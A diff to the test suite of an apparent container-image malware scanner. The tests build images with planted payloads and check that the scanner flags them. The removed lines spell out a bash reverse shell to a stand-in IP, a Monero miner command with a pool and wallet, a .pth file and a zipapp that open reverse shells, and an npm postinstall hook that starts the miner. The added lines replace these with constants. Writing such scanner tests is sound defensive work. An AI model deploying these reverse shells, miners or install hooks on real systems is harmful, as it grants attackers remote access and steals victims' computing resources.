@@ -2,8 +2,8 @@
 import zipfile
 from build import *
 
-miner = 'cd /tmp\n/usr/lib/.x/sysupd -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1\n'
-shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'
+miner = 'cd /tmp\n/usr/lib/.x/sysupd -o ' + POOL + ' -u ' + WALLET + ' -k --donate-level 1\n'
+shell = '' + REVERSE + '\n'
 dash = b'\x7fELF\x02\x01\x01' + bytes(9) + b'\x03\0\x3e\0\x01\0\0\0' + bytes(40)
 bins = folder('bin') + file('bin/sh', dash, 0o755) + file('bin/bash', dash, 0o755) + file('bin/python3', dash, 0o755) + file('bin/node', dash, 0o755)
 at = folder('opt') + file('opt/config.dat', miner)
@@ -45,7 +45,7 @@ refuses('a reverse shell without shebang run by python', run(folder('opt'), file
 refuses('a script in an upper layer', image(tar(bins), tar(at), Entrypoint=['sh', '/opt/config.dat']))
 refuses('a plain reverse shell in config.dat', run(folder('opt'), file('opt/config.dat', shell), Entrypoint=['sh', '/opt/config.dat']))
 refuses('postinstall of npm', run(folder('app'), file('app/package.json', json.dumps({'name': 'x', 'version': '1.0.0', 'scripts': {'postinstall': 'sh ./setup.dat'}})), file('app/setup.dat', miner), Cmd=['npm', 'start'], WorkingDir='/app'))
-refuses('a .pth that runs code', run(folder('usr/lib/python3/dist-packages'), file('usr/lib/python3/dist-packages/x.pth', 'import os;os.system("bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'")\n'), Cmd=['sh']))
+refuses('a .pth that runs code', run(folder('usr/lib/python3/dist-packages'), file('usr/lib/python3/dist-packages/x.pth', 'import os;os.system("bash -c \'' + REVERSE + '\'")\n'), Cmd=['sh']))
 r = holds('code on a volume', run(Entrypoint=['sh', '/data/run.sh'], Volumes={'/data': {}}), skip='code on a volume')
 r = holds('a program that is not in the image', run(Entrypoint=['/opt/none']), skip='program not in the image')
 r = holds('and by its name', run(Entrypoint=['nothere']), skip='program not in the image')
@@ -55,8 +55,8 @@ r = scan(run(folder('etc'), file('etc/ld.so.preload', '/lib/evil.so\n'), Cmd=['s
 ok('ld.so.preload is told', any('preload' in (f['rule'] + f['title'] + f['description']).lower() for f in r.findings), short(r))
 
 # SCAN.md 13: signs combine over the image
-wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
-r = refuses('a wallet in Env, a pool in one file, a miner in another layer', image(tar(bins, folder('etc'), file('etc/pool.conf', 'url=stratum+tcp://pool.supportxmr.com:3333\n')),
+wallet = '' + WALLET + ''
+r = refuses('a wallet in Env, a pool in one file, a miner in another layer', image(tar(bins, folder('etc'), file('etc/pool.conf', 'url=' + POOL + '\n')),
             tar(folder('app'), file('app/run', '#!/bin/sh\nexec /app/xmrig -c /etc/pool.conf -u $WALLET --donate-level=1 --cpu-max-threads-hint=90\n', 0o755)), Env=['WALLET=' + wallet], Entrypoint=['/app/run']))
 ok('is one miner finding', len({f['rule'] for f in r.findings if f['kind'] == 'miner' and f['severity'] in ('high', 'critical')}) == 1 or any(len(f['evidence']) > 1 for f in r.findings if f['kind'] == 'miner'), short(r))
 r = scan(run(folder('doc'), file('doc/README.md', 'Donate: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\n'), Entrypoint=['sh']))
@@ -75,7 +75,7 @@ holds('the same as the program that runs', run(folder('t'), file('t/broken.zip',
 admits('a whole zip as the program', run(folder('t'), file('t/app.zip', whole), Entrypoint=['python3', '/t/app.zip']))
 z = io.BytesIO()
 with zipfile.ZipFile(z, 'w') as f:
-    f.writestr('__main__.py', 'import os\nos.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")\n')
+    f.writestr('__main__.py', 'import os\nos.system("' + REVERSE + '")\n')
 refuses('a zipapp with a reverse shell', run(folder('t'), file('t/app', b'#!/usr/bin/env python3\n' + z.getvalue(), 0o755), Entrypoint=['/t/app']))
 
 # SCAN.md 16: a home-made package does not spare
